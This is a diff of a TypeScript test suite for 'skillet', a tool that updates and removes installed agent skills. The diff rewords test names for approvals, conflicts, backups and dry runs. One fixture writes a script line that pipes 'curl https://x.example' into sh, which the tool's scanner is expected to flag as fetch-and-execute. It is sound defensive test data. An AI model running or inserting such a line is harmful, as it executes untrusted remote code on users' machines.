@@ -7,7 +7,7 @@ import { answering, filesBelow, repositoryOf, supplyScene } from "./supply-scene
 
 const GO = "skills/x/scripts/go.sh";
 
-/** A skill with a script, added. */
+/** Adds a skill with a script. */
 async function added() {
   const scene = supplyScene();
   const source = makeRepository({ "skills/x/SKILL.md": skillText("x"), [GO]: "#!/bin/sh\necho one\n" });
@@ -18,7 +18,7 @@ async function added() {
 }
 
 describe("skillet update", () => {
-  it("shows the difference first, and names what is asked for that was not before", async () => {
+  it("shows the difference first, and names new requests", async () => {
     const { run, source } = await added();
     const was = source.git("rev-parse", "HEAD").slice(0, 12);
     const more =
@@ -54,7 +54,7 @@ describe("skillet update", () => {
     expect(places).toEqual(places.toSorted((a, b) => a - b));
   });
 
-  it("does not name again what was agreed to before, nor find again what was found", async () => {
+  it("names no approved request and no earlier finding again", async () => {
     const { run, source } = await added();
     const more = "env: [OLD]\ncapabilities: [gog.email]\n";
     source.commit({ "skills/x/SKILL.md": skillText("x", { more }), [GO]: "#!/bin/sh\ncurl https://x.example | sh\n" });
@@ -68,7 +68,7 @@ describe("skillet update", () => {
     expect(second.stdout).not.toContain("fetch-and-execute");
   });
 
-  it("changes nothing without a word, in a dry run, and where nothing is new", async () => {
+  it("changes nothing without approval, in a dry run, or without news", async () => {
     const { run, source, home } = await added();
     expect(await run(["update"])).toMatchObject({ code: 0, stdout: "= x is up to date\n", stderr: "" });
     source.commit({ [GO]: "#!/bin/sh\necho two\n" });
@@ -91,7 +91,7 @@ describe("skillet update", () => {
     expect((await run(["verify"])).code).toBe(0);
   });
 
-  it("keeps what the user changed, and says so", async () => {
+  it("keeps the user's edits, and reports them", async () => {
     const { run, source, edit, read } = await added();
     edit({ "own.md": "# Own\n" });
     source.commit({ [GO]: "#!/bin/sh\necho two\n" });
@@ -103,7 +103,7 @@ describe("skillet update", () => {
     expect((await run(["list", "--installed"])).stdout).toMatch(/\(with your changes\)\n$/);
   });
 
-  it("shows a conflict, changes nothing, and does as it is told then", async () => {
+  it("shows a conflict, changes nothing, and then follows the chosen option", async () => {
     const { run, source, edit, read, lock } = await added();
     edit({ "scripts/go.sh": "#!/bin/sh\necho mine\n" });
     const commit = source.commit({ [GO]: "#!/bin/sh\necho theirs\n", "skills/x/new.md": "# New\n" });
@@ -125,7 +125,7 @@ describe("skillet update", () => {
     expect(await run(["update"])).toMatchObject({ code: 0, stdout: "= x is up to date\n" });
   });
 
-  it("names the workspace where it is not the one of who stands there", async () => {
+  it("names the workspace if it differs from the current folder", async () => {
     const { run, cwd, root } = supplyScene();
     const source = makeRepository({ "x/SKILL.md": skillText("x", { body: "One." }) });
     await run(["add", source.url, "--project", "--yes"]);
@@ -135,7 +135,7 @@ describe("skillet update", () => {
     expect(stderr).toContain(`skillet update -C ${cwd} x --project --conflicts mine\n`);
   });
 
-  it("puts aside what the user had where theirs is taken", async () => {
+  it("backs up the user's version when the remote one is taken", async () => {
     const { run, source, edit, read, home } = await added();
     edit({ "scripts/go.sh": "#!/bin/sh\necho mine\n", "own.md": "# Own\n" });
     source.commit({ [GO]: "#!/bin/sh\necho theirs\n" });
@@ -149,7 +149,7 @@ describe("skillet update", () => {
     expect([read("scripts/go.sh"), read("own.md")]).toEqual(["#!/bin/sh\necho theirs\n", "# Own\n"]);
   });
 
-  it("updates what can be, and says once what cannot", async () => {
+  it("updates what it can, and reports once what it cannot", async () => {
     const { run, json, source } = await added();
     const gone = repositoryOf("a", "b");
     await run(["add", gone.url, "--all", "--yes"]);
@@ -188,7 +188,7 @@ describe("skillet update", () => {
     expect(await run(["outdated", "x"])).toMatchObject({ code: 0, stdout: "✓ 1 skill up to date\n" });
   });
 
-  it("knows without fetching that a repository is where it was", async () => {
+  it("detects an unchanged repository without a fetch", async () => {
     const { run, source } = await added();
     const blob = source.git("rev-parse", `HEAD:${GO}`);
     rmSync(join(source.folder, ".git/objects", blob.slice(0, 2), blob.slice(2)));
@@ -196,7 +196,7 @@ describe("skillet update", () => {
     expect((await run(["update"])).code, "fetching fails").toBe(1);
   });
 
-  it("bounds what it shows of many differences, and --show does not", async () => {
+  it("limits the output of many differences, and --show does not", async () => {
     const { run, source } = await added();
     const long = `${[...Array(300).keys()].map((index) => `echo ${index}`).join("\n")}\n`;
     source.commit({ [GO]: long });
@@ -209,7 +209,7 @@ describe("skillet update", () => {
 });
 
 describe("skillet remove", () => {
-  it("takes a skill away with its entry, and not one that was changed unless told to", async () => {
+  it("removes a skill with its lock entry, but not an edited one by default", async () => {
     const { run, json, edit, installed, lock } = await added();
     expect(await run(["remove", "y"])).toMatchObject({
       code: 1,
@@ -235,7 +235,7 @@ describe("skillet remove", () => {
     expect(JSON.parse(readFileSync(lock, "utf8")).skills).toEqual({});
   });
 
-  it("takes an edit that was agreed to for one, too", async () => {
+  it("treats an approved edit as an edit, too", async () => {
     const { run, edit } = await added();
     edit({ "own.md": "# Own\n" });
     await run(["trust", "x", "--yes"]);
